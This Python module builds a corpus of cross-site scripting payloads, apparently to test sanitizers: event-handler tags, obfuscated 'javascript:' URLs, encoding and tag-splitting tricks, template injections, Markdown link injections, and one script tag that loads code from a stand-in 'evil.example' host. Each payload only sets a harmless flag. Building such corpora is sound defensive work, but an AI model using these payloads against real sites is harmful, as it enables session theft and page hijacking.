"""Two hundred and more texts that try to become code, from the shapes that are known to work
on careless pages: tags, handlers, addresses, Markdown links, entities, broken encodings.

`FLAG` is what each would call if it ran.
"""

import itertools
from typing import Final

FLAG: Final = "window.executed=1"
CALL: Final = "window.executed=1"

_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onbeforetoggle",
    "onscrollend",
    "oncontentvisibilityautostatechange",
]
_TAGS = [
    "img",
    "svg",
    "video",
    "audio",
    "iframe",
    "body",
    "details",
    "input",
    "select",
    "textarea",
    "marquee",
    "object",
    "embed",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "button",
    "isindex",
    "keygen",
    "template",
    "slot",
    "dialog",
]
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}",
    "\x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}", "javascript://%0a{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{}", "blob:null/{}", "filesystem:{}", "view-source:javascript:{}", "feed:javascript:{}",
    "livescript:{}", "mhtml:javascript:{}", "jar:javascript:{}", "\u200bjavascript:{}",
    "javascript\u200b:{}", "ｊavascript:{}", "//javascript:{}", "https:javascript:{}",
)  # fmt: skip
_LINKS = ("[click]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a]: {}", "{}", '<a href="{}">a</a>')
_WHOLE = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</p><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script\x00>{}</script>", "<<script>{}//<</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mi xlink:href='javascript:{}'>",
    "<iframe srcdoc='<script>{}</script>'>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>",
    "<template><script>{}</script></template>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>", "]]><script>{}</script>", "{{constructor.constructor('{}')()}}",
    "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{{}}}}}", "';{};//", '";{};//', "`${{{}}}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "**<img src=x onerror={}>**", "*<svg onload={}>*", "`<script>{}</script>`",
    "- <img src=x onerror={}>\n- <svg onload={}>", "\u202e<script>{}</script>",
    "<img src=x onerror\u2028={}>", "<a href='x' autofocus onfocus={}>", "[x](x 'onerror={}')",
    "[x](x\" onmouseover=\"{})", "https://a.example/\"onmouseover=\"{}", "a@b.example\"onclick=\"{}",
    "+386 1 234 56 78\"onclick=\"{}", "[https://good.example](javascript:{})",
    "[<img src=x onerror={}>](https://a.example)", "**[x](javascript:{})**", "[[x](y)](javascript:{})",
)  # fmt: skip


def _filled(shape: str, value: str) -> str:
    return shape.replace("{}", value)


CORPUS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [
            f"<{tag} src=x {event}={CALL}>"
            for tag, event in zip(_TAGS, itertools.cycle(_EVENTS), strict=False)
        ]
        + [f'<img src=x {event}="{CALL}">' for event in _EVENTS]
        + [f"<svg/{event}={CALL}//" for event in _EVENTS]
        + [_filled(link, _filled(scheme, CALL)) for link in _LINKS for scheme in _SCHEMES]
        + [_filled(shape, CALL) for shape in _WHOLE]
    )
)
